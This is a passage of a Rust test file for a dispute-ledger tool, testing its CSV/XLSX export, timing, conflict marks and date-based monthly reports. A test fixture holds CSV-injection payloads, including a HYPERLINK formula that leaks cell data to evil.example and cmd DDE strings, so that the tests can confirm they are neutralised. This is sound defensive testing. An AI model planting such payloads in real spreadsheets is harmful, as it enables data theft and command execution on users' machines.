        .record_as_of(&fx.medical, as_of("2019-10-25"))
        .unwrap()
    else {
        panic!()
    };
    assert_eq!(d.remarks, "已申请医疗损害鉴定");
}

#[test]
fn ledger_format_parses() {
    assert_eq!("CSV".parse::<LedgerFormat>().unwrap(), LedgerFormat::Csv);
    assert_eq!("xlsx".parse::<LedgerFormat>().unwrap(), LedgerFormat::Xlsx);
    assert!("pdf".parse::<LedgerFormat>().is_err());
    assert_eq!(ledger::TITLE, "矛盾纠纷排查化解统计表");
}

/// `cargo test -p fieldledger-core --release --test report -- --ignored --nocapture export_timing`
#[test]
#[ignore = "timing; run in release mode"]
fn export_timing() {
    use std::time::Instant;
    let n = 10_000;
    let mut s = memory_store("office", "JGB", Role::Office, "O1");
    let t0 = Instant::now();
    for i in 0..n {
        let unit = ["WJK", "ZYY", "RMYY", "JKZX"][i % 4];
        s.create(
            RecordKind::Dispute,
            Some(unit),
            &[
                Edit::text("name", &format!("纠纷{i}")),
                Edit::text(
                    "category",
                    if i % 3 == 0 {
                        "医疗卫生"
                    } else {
                        "劳动就业"
                    },
                ),
                Edit::text(
                    "situation",
                    &"患者家属对治疗结果有异议，多次到院反映。".repeat(3),
                ),
                measure("2019-10-09", "张三", "上门沟通"),
                measure("2019-10-12", "李四", "组织三方调解"),
                Edit::text("trend", "easing"),
                bool_set("resolving_soon", i % 2 == 0),
                Edit::text("leader", "李局长"),
                Edit::set("people_involved", FieldValue::Int((i % 50) as i64)),
                bool_set("is_major", i % 10 == 0),
                Edit::text("found_on", &format!("2019-10-{:02}", 1 + i % 28)),
            ],
        )
        .unwrap();
    }
    let fill = t0.elapsed();
    let c = Campaign::plan(2019);
    let q = LedgerQuery {
        consolidated: true,
        ..Default::default()
    };
    let t = Instant::now();
    let l = Ledger::load(&s, &q, &c).unwrap();
    let load = t.elapsed();
    let t = Instant::now();
    let csv = l.csv().unwrap();
    let csv_t = t.elapsed();
    let t = Instant::now();
    let xlsx = l.xlsx().unwrap();
    let xlsx_t = t.elapsed();
    let t = Instant::now();
    let q_as_of = LedgerQuery {
        as_of: Some(as_of("2030-01-01")),
        ..q.clone()
    };
    let l2 = Ledger::load(&s, &q_as_of, &c).unwrap();
    let as_of_t = t.elapsed();
    assert_eq!(l2.rows.len(), n);
    println!("| step ({n} disputes, consolidated) | time | size |");
    println!("| --- | --- | --- |");
    println!("| create in store (setup) | {fill:.2?} | |");
    println!("| read rows from index | {load:.2?} | |");
    println!("| CSV | {csv_t:.2?} | {} KiB |", csv.len() / 1024);
    println!(
        "| XLSX (summary + 4 unit sheets) | {xlsx_t:.2?} | {} KiB |",
        xlsx.len() / 1024
    );
    println!("| read rows as of a date (history) | {as_of_t:.2?} | |");
}

/// A ledger whose texts try to be spreadsheet formulas (CSV injection).
fn hostile_ledger() -> Ledger {
    let mut s = memory_store("office", "JGB", Role::Office, "O1");
    s.create(
        RecordKind::Dispute,
        Some("WJK"),
        &[
            Edit::text("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"),
            Edit::text("category", "医疗卫生"),
            Edit::text("situation", "+1+cmd|' /C calc'!A0"),
            Edit::text("difficulties", "-2+3"),
            Edit::text("remarks", "@SUM(1+1)*cmd|' /C calc'!A0"),
            Edit::text("leader", "\t=1+1"),
            Edit::text("responsible", "正常的名字"),
            Edit::set("people_involved", FieldValue::Int(12)),
        ],
    )
    .unwrap();
    s.create(
        RecordKind::Dispute,
        Some("WJK"),
        &[
            Edit::text("name", "减号-在中间=不是公式"),
            Edit::text("category", "医疗卫生"),
            Edit::text("situation", "\r=1+1"),
        ],
    )
    .unwrap();
    Ledger::load(&s, &LedgerQuery::default(), &Campaign::plan(2019)).unwrap()
}

#[test]
fn ledger_csv_neutralises_cells_a_spreadsheet_would_read_as_formulas() {
    let l = hostile_ledger();
    let bytes = l.csv().unwrap();
    let text = csv_text(&bytes);
    insta::assert_snapshot!("ledger_hostile_csv", text);
    let rows = csv_rows(&bytes);
    assert_eq!(rows.len(), 2);
    let r = &rows[0];
    assert_eq!(&r[1], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")");
    assert_eq!(&r[3], "'+1+cmd|' /C calc'!A0");
    assert_eq!(&r[5], "'-2+3");
    assert_eq!(&r[9], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(&r[8], "正常的名字");
    // Numbers stay numbers.
    assert_eq!((&r[0], &r[10]), ("1", "12"));
    assert_eq!(&r[7], "'=1+1");
    assert_eq!(&rows[1][1], "减号-在中间=不是公式");
    assert_eq!(&rows[1][3], "'=1+1");
    assert_eq!(&rows[1][0], "2");
    // No cell of the file starts a formula (the ledger trims its texts, so a leading tab or
    // carriage return goes and the `=` behind it is neutralised).
    for (i, row) in rows.iter().enumerate() {
        for (c, v) in row.iter().enumerate() {
            assert!(
                !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "row {i} column {c} starts a formula: {v:?}"
            );
        }
    }
}

#[test]
fn ledger_xlsx_holds_formula_like_texts_as_text() {
    let l = hostile_ledger();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(l.xlsx().unwrap())).unwrap();
    let r = wb.worksheet_range("统计表").unwrap();
    assert_eq!(
        r.get_value((3, 1)),
        Some(&Data::String(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")".into()
        ))
    );
    assert_eq!(cell(&r, 3, 3), "+1+cmd|' /C calc'!A0");
    assert_eq!(cell(&r, 3, 5), "-2+3");
    assert_eq!(cell(&r, 3, 9), "@SUM(1+1)*cmd|' /C calc'!A0");
    assert!(
        matches!(r.get_value((3, 10)), Some(Data::Float(n)) if *n == 12.0),
        "所涉人数 is a number"
    );
    let formulas = wb.worksheet_formula("统计表").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the workbook holds no formula: {:?}",
        formulas.used_cells().collect::<Vec<_>>()
    );
}

/// The ledger row of a dispute in CSV rows (header first).
fn csv_row_of<'a>(rows: &'a [csv::StringRecord], name: &str) -> &'a csv::StringRecord {
    rows.iter()
        .find(|r| r.get(1) == Some(name))
        .unwrap_or_else(|| panic!("no row {name}"))
}

#[test]
fn open_conflicts_are_marked_in_csv_and_xlsx_until_resolved() {
    let mut fx = fixture();
    let zyy = LedgerQuery {
        filter: DisputeFilter {
            units: Some(vec!["ZYY".into()]),
            ..Default::default()
        },
        ..Default::default()
    };
    let c = Campaign::plan(2019);
    let csv = export_ledger(&fx.store, &zyy, LedgerFormat::Csv, &c).unwrap();
    let rows = csv_rows(&csv);
    let row = csv_row_of(&rows, "医患纠纷");
    // 所涉人数 holds 5 and 8: the default value, marked; other cells unmarked.
    let people = row.get(10).unwrap();
    assert!(
        people == format!("{}5", ledger::PENDING_MARK)
            || people == format!("{}8", ledger::PENDING_MARK),
        "{people}"
    );
    assert_eq!(row.get(2), Some("医疗卫生"));
    assert_eq!(
        csv_text(&csv).matches(ledger::PENDING_MARK).count(),
        1,
        "only the conflicted cell is marked"
    );
    // The same bytes twice (deterministic).
    assert_eq!(
        csv,
        export_ledger(&fx.store, &zyy, LedgerFormat::Csv, &c).unwrap()
    );

    let xlsx = export_ledger(&fx.store, &zyy, LedgerFormat::Xlsx, &c).unwrap();
    let mut wb: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let sheet = wb.worksheet_range("统计表").unwrap();
    assert_eq!(cell(&sheet, 3, 1), "医患纠纷");
    assert_eq!(
        cell(&sheet, 3, 10),
        people,
        "the XLSX cell is marked the same"
    );

    // As of a day before the conflict: nothing to mark.
    let before = LedgerQuery {
        as_of: Some(as_of("2019-10-06")),
        ..zyy.clone()
    };
    let old = export_ledger(&fx.store, &before, LedgerFormat::Csv, &c).unwrap();
    assert!(!csv_text(&old).contains(ledger::PENDING_MARK));

    // Resolved (by the field's label): no marker any more.
    fx.at("2019-10-25");
    fx.store
        .resolve_conflict(&fx.zyy, "所涉人数", FieldValue::Int(8))
        .unwrap();
    let after = export_ledger(&fx.store, &zyy, LedgerFormat::Csv, &c).unwrap();
    assert!(!csv_text(&after).contains(ledger::PENDING_MARK));
    assert_eq!(csv_row_of(&csv_rows(&after), "医患纠纷").get(10), Some("8"));
}

#[test]
fn a_past_month_is_reported_as_it_stood_at_its_end() {
    let mut fx = fixture();
    let c = Campaign::plan(2019);
    let q = |as_of| MonthlyQuery {
        unit: "WJK".into(),
        month: "2019-10".into(),
        as_of,
    };
    // In November the report of October is changed and a dispute found in October is entered.
    fx.at("2019-11-05");
    fx.store
        .write_monthly(Some("WJK"), "2019-10", Some("十一月补写"), None, None)
        .unwrap();
    fx.store
        .create(
            RecordKind::Dispute,
            Some("WJK"),
            &[
                Edit::text("name", "补录的纠纷"),
                Edit::text("found_on", "2019-10-30"),
            ],
        )
        .unwrap();
    let by_default = unit_monthly(&fx.store, &q(None), &c).unwrap();
    let at_end = unit_monthly(&fx.store, &q(Some(as_of("2019-10-31"))), &c).unwrap();
    // The month's figures as they stood at its end…
    assert_eq!(by_default.disputes_total, at_end.disputes_total);
    assert_eq!(by_default.rounds, at_end.rounds);
    assert_eq!(by_default.demands_collected, at_end.demands_collected);
    assert_eq!(by_default.as_of, Some(date("2019-10-31")));
    // …with the report the unit writes for it as it is now (written late, it is not lost);
    // asked as of the month's end, the report as it stood then.
    assert_eq!(by_default.experience, "十一月补写");
    assert!(at_end.experience.starts_with("建立“周研判”机制"));
    // Asked for now explicitly, the later state shows.
    let now = unit_monthly(&fx.store, &q(Some(day_ms("2019-11-06"))), &c).unwrap();
    assert_eq!(now.experience, "十一月补写");
    assert_eq!(
        now.disputes_total.found,
        by_default.disputes_total.found + 1
    );
    // The bureau view too: judged on 10-31, not on today.
    let bureau = bureau_monthly(&fx.store, "2019-10", None, None, &c).unwrap();
    assert_eq!(bureau.today, date("2019-10-31"));
    // The current month is still computed now.
    let current = unit_monthly(
        &fx.store,
        &MonthlyQuery {
            unit: "WJK".into(),
            month: "2019-11".into(),
            as_of: None,
        },
        &c,
    )
    .unwrap();
    assert_eq!(current.as_of, None);
}

#[test]
fn unknown_filter_values_are_errors_not_all() {
    use fieldledger_core::report::{check_filter, check_units};
    let fx = fixture();
    let s = &fx.store;
    let f = |status: Option<&str>, category: Option<&str>, unit: Option<&str>| DisputeFilter {
        status: status.map(str::to_owned),
        category: category.map(str::to_owned),
        units: unit.map(|u| vec![u.to_owned()]),
        ..Default::default()
    };
    assert!(check_filter(s, &f(Some("open"), Some("医疗卫生"), Some("WJK"))).is_ok());
    assert!(check_filter(s, &f(Some("resolved"), None, None)).is_ok());
    let err = check_filter(s, &f(Some("closed"), None, None)).unwrap_err();
    assert!(err.to_string().contains("open or resolved"), "{err}");
    let err = check_filter(s, &f(None, Some("不存在的类型"), None)).unwrap_err();
    assert!(
        !err.to_string().contains("不存在的类型"),
        "messages quote no value: {err}"
    );
    assert!(check_units(s, &["WJK".into(), "ZYY".into()]).is_ok());
    assert!(check_units(s, &["NOPE".into()]).is_err());
}
